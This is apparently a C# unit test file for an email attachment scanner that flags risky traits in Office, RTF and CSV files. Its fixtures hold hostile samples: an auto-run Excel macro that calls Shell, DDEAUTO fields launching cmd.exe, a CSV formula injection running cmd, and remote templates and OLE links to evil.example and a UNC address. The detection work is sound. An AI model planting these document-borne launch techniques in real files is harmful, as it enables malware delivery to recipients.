using Deeplia.Mail.Attachments.Files;
using Deeplia.Tests.Mail.Attachments.Making;

namespace Deeplia.Tests.Mail.Attachments.Office;

public sealed class OfficeFilesTests
{
    private static readonly FileSign[] Attack = [FileSign.Macro, FileSign.AutoRunMacro, FileSign.ScriptCalls];

    public static TheoryData<string, byte[]> Droppers() => new()
    {
        { "letter.doc", OfficeMaker.OldWord(OfficeMaker.Dropper) },
        { "letter.docm", OfficeMaker.NewWord(OfficeMaker.Dropper) },
        { "letter.pdf", OfficeMaker.NewWord(OfficeMaker.Dropper) },
        { "book.xls", OfficeMaker.OldExcel(macro: "Sub Workbook_Open()\r\nShell \"calc\", 1\r\nEnd Sub\r\n") },
    };

    public static TheoryData<string, byte[]> Honest() => new()
    {
        { "letter.doc", OfficeMaker.OldWord() },
        { "letter.docx", OfficeMaker.NewWord() },
        { "book.xls", OfficeMaker.OldExcel() },
        { "hidden-sheet.xls", OfficeMaker.OldExcel(visibility: 1) },
        { "empty-modules.xls", OfficeMaker.OldExcel(macro: "Option Explicit\r\n") },
        { "links.docx", OfficeMaker.NewWord(relations: OfficeMaker.Relation("hyperlink", "https://shop.example/a") ) },
        { "house.docx", OfficeMaker.NewWord(relations: OfficeMaker.Relation("attachedTemplate", "file:///C:\\Users\\nora\\Letter.dotx")) },
        { "server.docx", OfficeMaker.NewWord(relations: OfficeMaker.Relation("attachedTemplate", "\\\\fileserver\\templates\\Letter.dotx")) },
        { "date.docx", OfficeMaker.NewWord(body: "<w:instrText> DATE \\@ \"dd MMMM yyyy\" </w:instrText>") },
        { "picture.docx", OfficeMaker.NewWord(more: ("word/embeddings/oleObject1.bin",
            new CompoundWriter().Add("\u0001Ole10Native", OfficeMaker.Package("plan.txt", "A plan"u8.ToArray())).ToArray())) },
        { "letter.rtf", FileMaker.RichText(FileMaker.PackageObject("plan.txt", "A plan"u8.ToArray())) },
        { "table.csv", "name;=SUM(A1:A2);-cmd\n"u8.ToArray() },
    };

    [Theory]
    [MemberData(nameof(Droppers))]
    public void A_macro_that_starts_a_program_by_itself_is_seen(string name, byte[] file) => Assert.Equal(Attack, Look.Signs(name, file));

    [Theory]
    [MemberData(nameof(Honest))]
    public void An_ordinary_document_has_no_signs(string name, byte[] file) => Assert.Empty(Look.Signs(name, file));

    [Fact]
    public void A_macro_that_only_updates_fields_makes_no_calls() =>
        Assert.Equal([FileSign.Macro, FileSign.AutoRunMacro], Look.Signs("a.doc", OfficeMaker.OldWord(OfficeMaker.Greeter)));

    [Fact]
    public void A_macro_behind_a_button_does_not_start_by_itself() =>
        Assert.Equal([FileSign.Macro], Look.Signs("a.xlsm", OfficeMaker.NewWord(OfficeMaker.Summer)));

    [Theory]
    [InlineData(0, "")]
    [InlineData(2, "hidden")]
    public void A_sheet_of_old_macros_is_seen(byte visibility, string detail) =>
        Assert.Equal(detail, Look.First("a.xls", OfficeMaker.OldExcel(1, visibility), FileSign.MacroSheet).Detail);

    [Fact]
    public void A_locked_workbook_is_named() => Assert.Equal([FileSign.Locked], Look.Signs("a.xls", OfficeMaker.LockedExcel()));

    [Fact]
    public void A_locked_document_of_2007_is_named() => Assert.Equal([FileSign.Locked], Look.Signs(
        "a.docx", new CompoundWriter().Add("EncryptionInfo", new byte[100]).Add("EncryptedPackage", new byte[5000]).ToArray()));

    [Theory]
    [InlineData("attachedTemplate", "https://evil.example/t.dotm", "evil.example")]
    [InlineData("oleObject", "mhtml:https://evil.example/x.html!x-usc:https://evil.example/x.html", "evil.example")]
    [InlineData("attachedTemplate", "\\\\192.0.2.7\\share\\t.dotm", "192.0.2.7")]
    [InlineData("frame", "http://evil.example/f", "evil.example")]
    public void A_part_loaded_from_elsewhere_is_seen(string type, string target, string host) => Assert.Equal(
        host, Look.First("a.docx", OfficeMaker.NewWord(relations: OfficeMaker.Relation(type, target)), FileSign.RemoteTemplate).Detail);

    [Fact]
    public void A_link_of_a_document_can_be_followed_by_others() => Assert.Equal("https://shop.example/a", Assert.Single(
        Look.At("a.docx", OfficeMaker.NewWord(relations: OfficeMaker.Relation("hyperlink", "https://shop.example/a"))).Links).Url);

    [Fact]
    public void A_program_embedded_in_a_document_is_named()
    {
        var native = new CompoundWriter().Add("\u0001Ole10Native", OfficeMaker.Package("invoice.js", FileMaker.Script)).ToArray();
        var file = OfficeMaker.NewWord(more: ("word/embeddings/oleObject1.bin", native));
        Assert.Equal("invoice.js", Look.First("a.docx", file, FileSign.EmbeddedProgram).Detail);
    }

    [Theory]
    [InlineData("<w:instrText>DDEA</w:instrText></w:r><w:r><w:instrText>UTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\"</w:instrText>")]
    [InlineData("<w:fldSimple w:instr=\"DDEAUTO c:\\windows\\cmd.exe &quot;/k&quot;\">")]
    public void A_field_that_starts_a_program_is_seen(string body) =>
        Assert.Equal([FileSign.Dde], Look.Signs("a.docx", OfficeMaker.NewWord(body: body)));

    [Fact]
    public void A_field_of_an_old_document_is_seen() => Assert.Equal(
        [FileSign.Dde], Look.Signs("a.doc", OfficeMaker.OldWord(text: "Hello \u0013 DDEAUTO c:\\\\windows\\\\cmd.exe \"/k\" \u0014x\u0015")));

    [Fact]
    public void A_table_that_starts_a_program_is_seen() =>
        Assert.Equal([FileSign.Dde], Look.Signs("a.csv", "name;amount\nNora;=cmd|'/C calc'!A0\n"u8.ToArray()));

    [Fact]
    public void An_object_of_rich_text_that_loads_by_itself_is_seen() => Assert.Contains(
        FileSign.RichTextObject, Look.Signs("a.doc", FileMaker.RichText([1, 5, 0, 0, 2, 0, 0, 0, 11, 0, 0, 0, .. "Equation.3\0"u8, .. new byte[40]], "\\objupdate")));

    [Fact]
    public void A_program_packaged_in_rich_text_is_named() => Assert.Equal(
        "a.scr", Look.First("a.rtf", FileMaker.RichText(FileMaker.PackageObject("a.scr", FileMaker.Program)), FileSign.EmbeddedProgram).Detail);

    [Fact]
    public void A_template_of_rich_text_from_elsewhere_is_seen() => Assert.Equal(
        "evil.example", Look.First("a.rtf", @"{\rtf1 {\*\template http://evil.example/t} Hello}"u8.ToArray(), FileSign.RemoteTemplate).Detail);
}
